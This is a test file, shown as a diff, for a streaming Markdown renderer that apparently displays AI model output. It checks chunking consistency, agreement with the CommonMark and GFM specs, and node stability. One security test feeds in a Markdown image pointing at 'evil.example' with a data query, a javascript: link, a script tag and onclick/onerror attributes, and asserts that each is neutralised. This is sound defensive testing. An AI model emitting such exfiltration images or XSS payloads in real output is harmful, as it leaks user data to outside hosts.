@@ -1,0 +1,184 @@
+// @vitest-environment happy-dom
+import fc from 'fast-check'
+import MarkdownIt from 'markdown-it'
+import { describe, expect, test } from 'vitest'
+import commonmark from './spec/commonmark-0.31.2.json'
+import gfmExtensions from './spec/gfm-extensions.json'
+import gfm from './spec/gfm-0.29.json'
+import { StreamRenderer } from './stream-renderer'
+
+function render(pieces: readonly string[]): HTMLElement {
+  const host = document.createElement('div')
+  const renderer = new StreamRenderer(host)
+  let text = ''
+  for (const piece of pieces) {
+    text += piece
+    renderer.update(text, false)
+  }
+  renderer.update(text, true)
+  return host
+}
+
+const kept = new Set(
+  'P H1 H2 H3 H4 H5 H6 UL OL LI PRE CODE BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR EM STRONG S A IMG BR INPUT'.split(
+    ' ',
+  ),
+)
+const blocks = /(<\/?(?:P|H\d|UL|OL|LI|PRE|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|TH|TD|HR|BR)>)/
+
+/** What a document says, without what frames it: names of elements, addresses, and text with white space folded. */
+function meaning(root: Element): string {
+  const write = (node: Node, isCode: boolean): string => {
+    if (node instanceof Text) return isCode ? JSON.stringify(node.data) : node.data.replaceAll(/\s+/g, ' ')
+    if (!(node instanceof Element) || node.tagName === 'BUTTON' || node.hasAttribute('hidden')) return ''
+    const name = node.tagName === 'DEL' ? 'S' : node.tagName
+    const inside = [...node.childNodes].map((child) => write(child, isCode || name === 'PRE')).join('')
+    const text = name === 'PRE' ? JSON.stringify((node.textContent ?? '').replace(/\n$/, '')) : inside
+    if (!kept.has(name)) return text
+    const address = node.getAttribute('href') ?? node.getAttribute('src') ?? ''
+    // Relative addresses are not links here.
+    const shown = /^(https?|mailto):/i.test(address) ? ` ${address}` : ''
+    return `<${name}>${shown}${text}</${name}>`
+  }
+  const folded = [...root.childNodes].map((child) => write(child, false)).join('')
+  return folded
+    .split(blocks)
+    .map((part) => (blocks.test(part) ? part : part.trim()))
+    .join('')
+    .replaceAll('<TBODY></TBODY>', '')
+}
+
+function expected(html: string): string {
+  const host = document.createElement('div')
+  host.innerHTML = html
+  return meaning(host)
+}
+
+/** The document as a tree of names and texts, without the numbers that differ from one to the next. */
+const shape = (host: Element) => host.innerHTML.replaceAll(/note-\d+/g, 'note')
+
+const examples = [...commonmark.items, ...gfm.items, ...gfmExtensions.items]
+
+describe('the document is the same however the text arrives', () => {
+  test.each(examples)('character by character: example $n, $section', ({ markdown }) => {
+    expect(shape(render(Array.from(markdown)))).toBe(shape(render([markdown])))
+  })
+
+  test('in random pieces of whole documents', () => {
+    const document = fc
+      .array(fc.constantFrom(...examples), { minLength: 2, maxLength: 5 })
+      .map((chosen) => chosen.map(({ markdown }) => markdown).join('\n'))
+    fc.assert(
+      fc.property(
+        document,
+        fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1 }),
+        (markdown, sizes) => {
+          const pieces: string[] = []
+          for (let at = 0, turn = 0; at < markdown.length; turn++) {
+            const size = sizes[turn % sizes.length] ?? 1
+            pieces.push(markdown.slice(at, at + size))
+            at += size
+          }
+          expect(shape(render(pieces))).toBe(shape(render([markdown])))
+        },
+      ),
+      { numRuns: 150 },
+    )
+  })
+})
+
+describe('a document means what the specifications say', () => {
+  const withHtml = new MarkdownIt({ html: true })
+  const withoutHtml = new MarkdownIt({ html: false })
+  // Raw HTML is shown as the text it is: the one difference that is meant.
+  const safe = examples.filter(({ markdown }) => withHtml.render(markdown) === withoutHtml.render(markdown))
+
+  test('most examples are safe', () => {
+    expect(safe.length).toBeGreaterThan(550)
+  })
+
+  /** Where we differ on purpose, or where markdown-it and cmark-gfm read a corner of the text differently. */
+  const differences: Readonly<Record<string, string>> = {
+    'Autolinks 602': 'GFM links bare addresses',
+    'Autolinks 608': 'GFM links bare addresses',
+    'Autolinks 611': 'GFM links bare addresses',
+    'Autolinks 612': 'GFM links bare addresses',
+    'Autolinks (extension) 630': 'a plus sign in a host name',
+    'Strikethroughs 17': 'one tilde means "about" to people and models: only two strike through',
+    'Strikethroughs 18': 'one tilde means "about"',
+    'Autolinks 19': 'pictures of other hosts are not loaded; schemes without a host',
+    'Autolinks 20': 'underscores and at signs without an address',
+    'Interop 24': 'an address that ends in tildes',
+  }
+  const keyOf = ({ section, n }: { section: string; n: number }) => `${section} ${n}`
+
+  test.each(safe.filter((example) => differences[keyOf(example)] === undefined))(
+    'example $n, $section',
+    ({ markdown, html }) => {
+      expect(meaning(render([markdown]))).toBe(expected(html))
+    },
+  )
+
+  test('the differences are still differences', () => {
+    const same = safe
+      .filter(({ markdown, html }) => meaning(render([markdown])) === expected(html))
+      .map(keyOf)
+    expect(same.filter((key) => differences[key] !== undefined)).toEqual([])
+  })
+})
+
+describe('what a model writes can do nothing by itself', () => {
+  test('no address is loaded, and only safe ones become links', () => {
+    const host = render([
+      '![secret](https://evil.example/x.png?data=1) [run](javascript:alert(1)) [in](/settings) [ok](https://a.example)\n\n' +
+        '[ref]: https://b.example "title"\n\n[ref] <https://c.example> ![inline](data:image/png;base64,AAAA)',
+    ])
+    expect([...host.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([
+      null,
+      'data:image/png;base64,AAAA',
+    ])
+    const links = [...host.querySelectorAll('a[href]')].map((link) => link.getAttribute('href') ?? '')
+    expect(links.map((href) => new URL(href).hostname)).toEqual(['a.example', 'b.example', 'c.example'])
+    for (const link of host.querySelectorAll('a[href]')) {
+      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+    }
+  })
+
+  test('raw HTML stays text', () => {
+    const host = render(['<script>alert(1)</script>\n\n<b onclick="x()">bold</b> and <img src=x onerror=y>'])
+    expect(host.querySelectorAll('script, b, img')).toHaveLength(0)
+    expect(host.textContent).toContain('<b onclick="x()">bold</b>')
+  })
+})
+
+describe('finished blocks', () => {
+  test('keep their nodes while more text arrives', () => {
+    const host = document.createElement('div')
+    const renderer = new StreamRenderer(host)
+    const start = '# Title\n\nFirst *paragraph*.\n\n```js\nlet a = 1\n```\n\n- one\n- two\n\nNext'
+    renderer.update(start, false)
+    const before = [...host.querySelectorAll('h1, p, pre, li')].slice(0, 5)
+    renderer.update(`${start} words\n\nAnd **more**.\n\n> quote\n`, false)
+    renderer.update(`${start} words\n\nAnd **more**.\n\n> quote\n`, true)
+    const after = [...host.querySelectorAll('h1, p, pre, li')].slice(0, 5)
+    for (const [at, node] of before.entries()) expect(after[at]).toBe(node)
+  })
+
+  test('become links when their definition arrives, and only they change', () => {
+    const host = document.createElement('div')
+    const renderer = new StreamRenderer(host)
+    renderer.update('Plain.\n\nSee [spec].\n\nAnother\n\n', false)
+    const plain = host.querySelector('p')
+    renderer.update('Plain.\n\nSee [spec].\n\nAnother\n\n[spec]: https://a.example\n\nEnd', true)
+    expect(host.querySelector('p')).toBe(plain)
+    expect(host.querySelector('a')?.textContent).toBe('spec')
+  })
+
+  test('are made anew when the text is another one', () => {
+    const host = document.createElement('div')
+    const renderer = new StreamRenderer(host)
+    renderer.update('Draft one', false)
+    renderer.update('Final two', true)
+    expect(host.textContent).toBe('Final two')
+  })
+})
